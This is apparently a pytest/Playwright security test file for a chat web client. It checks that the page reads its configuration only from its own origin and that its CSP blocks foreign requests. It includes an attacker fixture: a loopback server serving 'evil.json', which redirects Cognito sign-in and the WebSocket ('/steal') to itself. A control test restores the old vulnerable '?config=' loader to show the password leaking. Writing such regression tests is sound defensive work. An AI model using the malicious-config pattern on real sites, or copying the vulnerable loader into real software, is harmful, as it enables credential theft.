"""The web page takes its configuration only from its own origin, and its CSP would stop a leak anyway.

A second, real HTTP server on another port plays the attacker: it serves a configuration whose
Cognito endpoint and WebSocket URL point back at itself (with CORS open, so a browser would
happily use it) and records every request it gets. The page is opened with
``?config=<that server>/evil.json``; every request the browser makes is recorded too.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from infra.web_client import WEB_CONTENT_TYPES
from infra.web_policy import content_security_policy
from tests.clients.browser import WAIT_MS
from tests.clients.peers import PASSWORD
from tests.clients.web_pages import sign_in, type_line

pytestmark = pytest.mark.browser

WEB_ROOT = Path(__file__).resolve().parents[2] / "clients" / "web"
APP_JS = WEB_ROOT / "app.js"
# The loader as it was before: any ?config= URL chose where the password and tokens went.
OLD_LOADER = 'new URLSearchParams(location.search).get("config") ?? CONFIG_PATH'


Answer = tuple[str, bytes]  # content type, body


class RecordingServer:
    """A real HTTP server on its own loopback port: answers with ``answer(path)``, records requests."""

    def __init__(self, answer: Callable[[str], Answer | None], headers: dict[str, str] | None = None) -> None:
        self.requests: list[tuple[str, str, str]] = []  # method, path, body
        recorded, extra = self.requests, headers or {}

        class Handler(BaseHTTPRequestHandler):
            def _reply(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length).decode(errors="replace") if length else ""
                recorded.append((self.command, self.path, body))
                found = (
                    answer(urlsplit(self.path).path) if self.command == "GET" else ("application/json", b"{}")
                )
                content_type, payload = found or ("text/plain", b"Not Found")
                self.send_response(200 if found or self.command != "GET" else 404)
                for name, value in {"Content-Type": content_type, **extra}.items():
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(payload)))
                self.end_headers()
                self.wfile.write(payload)

            do_GET = do_POST = do_OPTIONS = _reply

            def log_message(self, *args: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self._server.server_address[1]}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    def __enter__(self) -> RecordingServer:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._server.shutdown()
        self._server.server_close()


def attacker_server() -> RecordingServer:
    """The attacker: serves /evil.json naming itself as Cognito and WebSocket; CORS wide open."""
    holder: dict[str, str] = {}

    def answer(path: str) -> Answer | None:
        if path != "/evil.json":
            return None
        config = {
            "websocketUrl": f"{holder['origin'].replace('http', 'ws')}/steal",
            "region": "us-east-1",
            "userPoolId": "us-east-1_attacker",
            "userPoolClientId": "attacker",
            "cognitoEndpoint": f"{holder['origin']}/cognito",
        }
        return "application/json", json.dumps(config).encode()

    cors = {
        "Access-Control-Allow-Origin": "*",
        "Access-Control-Allow-Headers": "*",
        "Access-Control-Allow-Methods": "GET, POST, OPTIONS",
    }
    server = RecordingServer(answer, cors)
    holder["origin"] = server.origin
    return server


def page_server(stack: Any, *, app_js: str | None = None, csp: str | None = None) -> RecordingServer:
    """The web client's files (as the bucket holds them) and the stack's config.json, from one origin,
    with the CSP header the hosted page gets: what CloudFront serves, on loopback."""
    files = {path.name: path for path in WEB_ROOT.iterdir() if path.is_file()}
    types = {suffix: accepted[0] for suffix, accepted in WEB_CONTENT_TYPES.items()}

    def answer(path: str) -> Answer | None:
        name = path.lstrip("/") or "index.html"
        if name == "config.json":
            return "application/json", json.dumps(stack.config).encode()
        if name == "app.js" and app_js is not None:
            return types[".js"], app_js.encode()
        if name not in files:
            return None
        return types.get(files[name].suffix, "application/octet-stream"), files[name].read_bytes()

    return RecordingServer(answer, {"Content-Security-Policy": csp} if csp else None)


@pytest.fixture
def attacker() -> Iterator[RecordingServer]:
    with attacker_server() as server:
        yield server


@pytest.fixture
def context(open_context: Callable[..., BrowserContext]) -> BrowserContext:
    """One browser context (the conftest's browser), closed after the test."""
    return open_context()


def origin(url: str) -> str:
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}"


def record_requests(page: Page) -> list[str]:
    """Every URL the page requests, WebSockets included."""
    urls: list[str] = []
    page.on("request", lambda request: urls.append(request.url))
    page.on("websocket", lambda socket: urls.append(socket.url))
    return urls


def csp_violations(page: Page) -> list[str]:
    messages: list[str] = []
    page.on(
        "console",
        lambda message: messages.append(message.text) if "Content Security Policy" in message.text else None,
    )
    return messages


def local_policy(stack: Any) -> str:
    return content_security_policy(
        websocket_url=stack.config["websocketUrl"], cognito_endpoint=stack.config["cognitoEndpoint"]
    )


def old_app_js() -> str:
    """Today's app.js with the former loader put back."""
    current = APP_JS.read_text()
    old = current.replace("new URL(CONFIG_PATH, location.href)", f"new URL({OLD_LOADER}, location.href)")
    assert old != current, "the loader changed: update OLD_LOADER's insertion point"
    return old


def send(page: Page, text: str) -> None:
    """Type a public message and wait for its ack."""
    type_line(page, text)
    sent = page.get_by_test_id("message").filter(has_text=text)
    expect(sent).to_have_attribute("data-pending", "false", timeout=WAIT_MS)


def evil_link(page_url: str, attacker: RecordingServer) -> str:
    return f"{page_url.rstrip('/')}/?config={attacker.origin}/evil.json"


def test_a_config_link_to_another_origin_sends_nothing_there(
    context: BrowserContext, stack: Any, attacker: RecordingServer, new_username: Callable[[str], str]
) -> None:
    """Opened with ?config=<foreign>/evil.json, the page signs in and chats on its own stack only."""
    page = context.new_page()
    requested = record_requests(page)
    page.goto(evil_link(stack.http_url, attacker), wait_until="networkidle")
    username = new_username("linked")
    sign_in(page, username)
    expect(page.get_by_test_id("current-user")).to_have_text(username, timeout=WAIT_MS)
    expect(page.get_by_test_id("connection-state")).to_have_attribute("data-state", "online", timeout=WAIT_MS)
    send(page, "still on my own stack")

    allowed = {origin(stack.http_url), origin(stack.config["cognitoEndpoint"]), origin(stack.websocket_url)}
    assert f"{origin(stack.http_url)}/config.json" in requested
    assert {origin(url) for url in requested} <= allowed, requested
    assert not [url for url in requested if url.startswith(attacker.origin)]
    assert attacker.requests == []


def test_the_old_loader_would_have_sent_the_password_to_the_link(
    context: BrowserContext, stack: Any, attacker: RecordingServer, new_username: Callable[[str], str]
) -> None:
    """Control: with the former ?config= loader and no CSP, the link hands the password to the attacker."""
    with page_server(stack, app_js=old_app_js()) as site:
        page = context.new_page()
        page.goto(evil_link(site.origin, attacker), wait_until="networkidle")
        sign_in(page, new_username("victim"))
        expect(page.get_by_test_id("sign-in-error")).to_be_visible(timeout=WAIT_MS)
    assert "/evil.json" in [path for _, path, _ in attacker.requests]
    assert any(PASSWORD in body for method, _, body in attacker.requests if method == "POST")


def test_the_csp_stops_the_old_loader_before_anything_leaves(
    context: BrowserContext, stack: Any, attacker: RecordingServer
) -> None:
    """Under the hosted page's CSP, even the former loader cannot fetch the foreign configuration."""
    with page_server(stack, app_js=old_app_js(), csp=local_policy(stack)) as site:
        page = context.new_page()
        violations = csp_violations(page)
        page.goto(evil_link(site.origin, attacker), wait_until="networkidle")
        # The former loader cannot get the foreign file, so the page never leaves the sign-in form.
        expect(page.get_by_test_id("sign-in-error")).to_be_visible(timeout=WAIT_MS)
    assert attacker.requests == []
    assert any(attacker.origin in text for text in violations), violations


def test_the_page_works_under_its_csp(
    context: BrowserContext, stack: Any, new_username: Callable[[str], str]
) -> None:
    """Under the hosted page's CSP header (local URLs): sign-in, connect, send, reload, the service worker
    and the manifest all work, with no violation."""
    with page_server(stack, csp=local_policy(stack)) as site:
        page = context.new_page()
        violations = csp_violations(page)
        page.goto(site.origin, wait_until="networkidle")
        sign_in(page, new_username("csp"))
        expect(page.get_by_test_id("connection-state")).to_have_attribute(
            "data-state", "online", timeout=WAIT_MS
        )
        send(page, "allowed by the policy")
        assert page.evaluate("navigator.serviceWorker.ready.then(r => Boolean(r.active))")
        page.reload()
        expect(page.get_by_test_id("connection-state")).to_have_attribute(
            "data-state", "online", timeout=WAIT_MS
        )
        # Read at each load and again at sign-in, always from the page's own origin.
    assert len([path for _, path, _ in site.requests if path == "/config.json"]) >= 2
    assert "/manifest.webmanifest" in [path for _, path, _ in site.requests]
    assert violations == []
